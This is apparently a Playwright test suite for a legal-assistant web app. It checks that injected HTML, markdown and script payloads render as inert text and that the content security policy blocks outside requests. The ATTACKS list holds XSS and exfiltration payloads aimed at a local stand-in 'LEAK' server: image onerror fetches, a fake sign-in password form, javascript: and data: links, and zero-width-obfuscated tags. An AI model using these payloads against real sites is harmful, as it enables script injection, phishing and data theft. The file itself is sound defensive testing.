"""A reply, a client, a paper and a note full of HTML, images, styles, forms and links: shown as text, nothing loaded.

Once with the content security policy and once without it: what is escaped and what is forbidden must each hold alone.
"""

from __future__ import annotations

import datetime as dt
import io
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import docx
import pypdf
import pytest
from playwright.sync_api import Browser, Page, expect

from assistant.contract import Answer, Ask, Cited, Event, Final, Note, SentenceEvent, Slots, Step
from assistant.database import Database
from assistant.ondisk import OnDisk
from assistant.settings import Settings
from assistant.web.metrics import Metrics
from assistant.web.services import Services
from assistant.web.serving import application
from corpus.library import Library
from corpus.official.store import Origin, Store
from tests import browsing
from tests.browsing import arrived, done, fresh, served
from tests.test_official_store import section

pytestmark = [pytest.mark.browser, browsing.GRADIO]
browser = browsing.browser
DAY = dt.date(2026, 11, 20)
STATEMENT = "cfr-591-5.i1"
# LEAK is the address of a server that counts who asks it.
ATTACKS = (
    "<img src=LEAK/img onerror=fetch('LEAK/onerror')>", "<script src=LEAK/script.js></script>",
    "<style>@import url(LEAK/import.css); body { background: url(LEAK/background) }</style>",
    "<link rel=stylesheet href=LEAK/link.css>", "<iframe src=LEAK/frame></iframe>", "<object data=LEAK/o></object>",
    "<form action=LEAK/form><input type=password name=p><button>Sign in</button></form>",
    "<video src=LEAK/video poster=LEAK/poster autoplay></video>", "<svg><image href=LEAK/svg /></svg>",
    "<base href=LEAK/>", "<meta http-equiv=refresh content='0;url=LEAK/meta'>", "<p style='background:url(LEAK/p)'>",
    "![picture](LEAK/markdown.png)", "![picture][ref]\n\n[ref]: LEAK/reference.png", "[click](LEAK/anchor)",
    "[click](javascript:fetch('LEAK/javascript'))", "<LEAK/autolink>", "LEAK/bare", "<im\u200bg src=LEAK/zero>",
    "[click](java\u200bscript:alert(1))", "&lt;img src=LEAK/entity&gt;", "\\<img src=LEAK/escaped>",
    "{{ 7*7 }} {% raw %}", "<a href='data:text/html,<img src=LEAK/data>'>y</a>", "$$\\href{LEAK/latex}{x}$$",
    "```html\n<img src=LEAK/fence>\n```",
)  # fmt: skip
# What of it would be alive on a page, and where such a page would send somebody.
ALIVE = """leak => {
  const leading = ["src", "href", "action", "poster", "data", "style", "formaction", "srcset"];
  const bad = (text) => text.includes(leak) || /^\\s*(javascript|data:text)/i.test(text);
  return [...document.querySelectorAll("*")].filter((one) =>
    [...one.attributes].some((a) => leading.includes(a.name) && bad(a.value))
    || (one.tagName === "STYLE" && one.textContent.includes(leak))
    || (one.tagName === "META" && one.httpEquiv === "refresh")
  ).map((one) => one.outerHTML.slice(0, 200));
}"""


@dataclass
class Leak:
    """A server of another origin, and the paths it was asked for."""

    url: str = ""
    asked: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def leak() -> Iterator[Leak]:
    held = Leak()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            held.asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, format: str, *args: object) -> None:
            """Nothing on the error stream of the tests."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    held.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    yield held
    server.shutdown()
    server.server_close()
    thread.join()


@dataclass(frozen=True)
class Hostile:
    """An assistant in whose every word somebody put an attack."""

    library: Library
    on_disk: OnDisk
    text: str
    fingerprint: str = "f" * 32

    def events(self, ask: Ask) -> Iterator[Event]:
        """A step, a paragraph and an answer, each hostile."""
        yield Step(text=self.text)
        yield SentenceEvent(text=f"{self.text} [1]")
        yield Final(answer=self.answer(ask), slots=Slots(model=self.text[:80], question=ask.question))

    def answer(self, ask: Ask) -> Answer:
        told = Cited(
            n=1, citation=self.text, coordinate="us/cfr/49/591.5", place="US", authority="regulation", title=self.text,
            statement=self.text, statements=(STATEMENT,), official_text=self.text, official_source=self.text,
            url="javascript:alert(1)", checked=None, effective_from=None, confidence="low", reviewed=self.text,
        )  # fmt: skip
        return Answer(
            question=ask.question, understood=self.text, outcome="answered", answer=f"{self.text} [1]\n\n> {self.text}",
            as_of=ask.as_of, places=("US",), citations=(told,), notes=(Note(kind="conflict", text=self.text),),
            follow_ups=tuple(self.text.split("\n\n")[:3]), fingerprint=self.fingerprint,
        )  # fmt: skip


@pytest.fixture(scope="module")
def text(leak: Leak) -> str:
    return "\n\n".join(ATTACKS).replace("LEAK", leak.url)


@pytest.fixture(scope="module")
def site(library: Library, text: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The whole app, chat and pages, with the hostile assistant, an official text and a review of the same kind."""
    settings = Settings(data_dir=tmp_path_factory.mktemp("hostile"))
    law = section(("i/1", text), coordinate="us/cfr/49/591.5", heading=text)
    Store(settings.official_dir).keep([law], Origin("boats", "javascript:alert(1)", DAY, DAY, text))
    with open_database(settings) as database:
        hostile = Hostile(library, OnDisk.open(settings), text)
        services = Services.open(settings, database, lambda standings: hostile)  # type: ignore[arg-type, return-value]
        statement = library.statements[STATEMENT]
        services.reviews.decide(statement, "disputed", "local", text[:80], None, text[:2000], seen=0)
        with served(application(services, Metrics(book="b", answers="a", version="0"))) as address:
            yield address


@contextmanager
def open_database(settings: Settings) -> Iterator[Database]:
    database = Database.open(settings)
    yield database
    database.close()


def harmless(page: Page, leak: Leak) -> None:
    """Nothing hostile is alive on the page, which still names it in words."""
    assert page.evaluate(ALIVE, leak.url) == [], page.url
    assert leak.asked == [], page.url


@pytest.mark.parametrize("policy", [True, False], ids=["with the policy", "without the policy"])
def test_what_is_hostile_is_text_on_every_page(
    browser: Browser, site: str, leak: Leak, text: str, policy: bool, tmp_path: Path
) -> None:
    page = fresh(browser, bypass_csp=not policy)
    foreign: list[str] = []
    refused: list[str] = []
    page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith((site, "data:", "blob:")) else None)
    page.on("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    page.on("dialog", lambda dialog: pytest.fail(f"a script of the text ran: {dialog.message}"))
    arrived(page, site)
    page.get_by_label("Ask a question").fill(text[:2000])
    page.get_by_role("button", name="Ask", exact=True).click()
    done(page, 1)
    for part in ("#chat [data-testid=user]", "#chat [data-testid=bot]", "#history-list", "#suggestions", "#chips"):
        expect(page.locator(part).last).to_contain_text("<img src=")
    expect(page.locator("#src-0-1")).to_contain_text("<script src=")
    harmless(page, leak)
    page.locator("#about summary").click()
    page.get_by_label("What should they know?").fill(text[:2000])
    page.get_by_role("button", name="Other", exact=True).click()
    expect(page.locator("#status")).to_contain_text("reached the attorneys")
    (thread,) = parse_qs(urlsplit(page.url).query)["thread"]
    page.reload()
    done(page, 1)
    expect(page.locator("#chat [data-testid=bot]").last).to_contain_text("<iframe src=")
    harmless(page, leak)
    sent = quote(text[:300], safe="")
    stored = ("review", f"review/answer/{thread}/1", f"review/statement/{STATEMENT}", "library/us/cfr/49/591.5/i/1")
    given = ("library?q=", "library/", "checker?year=", "checker?on=", "states/TX?as_of=", "states/compare?state=")
    for path in (*stored, *(f"{one}{sent}" for one in given), f"sign-in?next=%2F{sent}", "ledger"):
        page.goto(f"{site}/{path}")
        if path in stored:
            expect(page.locator("main")).to_contain_text("<img src=")
        harmless(page, leak)
    assert foreign == []
    assert refused == []
    page.context.close()


def test_exports_of_hostile_text_lead_nowhere(browser: Browser, site: str, leak: Leak) -> None:
    page = fresh(browser)
    arrived(page, site)
    page.get_by_label("Ask a question").fill("Is a kei truck legal in Ohio?")
    page.keyboard.press("Enter")
    done(page, 1)
    (thread,) = parse_qs(urlsplit(page.url).query)["thread"]
    memo = pypdf.PdfReader(io.BytesIO(page.request.get(f"{site}/memo/{thread}.pdf").body()))
    annotations = [one.get_object() for sheet in memo.pages for one in sheet.get("/Annots", [])]
    assert [one for one in annotations if leak.url in str(one) or "javascript" in str(one)] == []
    assert "<img src=" in " ".join("".join(sheet.extract_text() for sheet in memo.pages).split())
    word = docx.Document(io.BytesIO(page.request.get(f"{site}/memo/{thread}.docx").body()))
    outside = [r.target_ref for r in word.part.rels.values() if r.is_external]
    assert [one for one in outside if leak.url in one or "javascript" in one] == []
    page.context.close()


def test_the_policy_alone_keeps_the_page_from_asking_elsewhere(browser: Browser, site: str, leak: Leak) -> None:
    put = """leak => {
      document.body.insertAdjacentHTML("beforeend", `<img src=${leak}/i><iframe src=${leak}/f></iframe>
        <video src=${leak}/v></video><p style="background: url(${leak}/b)">x</p><form action=${leak}/s></form>`);
      document.querySelector("form[action^='http']").submit();
      return fetch(`${leak}/fetch`).then(() => "came", () => "refused");
    }"""
    page = fresh(browser)
    page.goto(f"{site}/states")
    assert page.evaluate(put, leak.url) == "refused"
    page.wait_for_timeout(300)
    assert leak.asked == []
    # The server does count: without the policy the same page asks it.
    loose = fresh(browser, bypass_csp=True)
    loose.goto(f"{site}/states")
    with loose.expect_request(f"{leak.url}/i"):
        loose.evaluate("leak => { new Image().src = `${leak}/i`; }", leak.url)
    loose.wait_for_timeout(300)
    assert leak.asked == ["/i"]
    leak.asked.clear()
    page.context.close()
    loose.context.close()
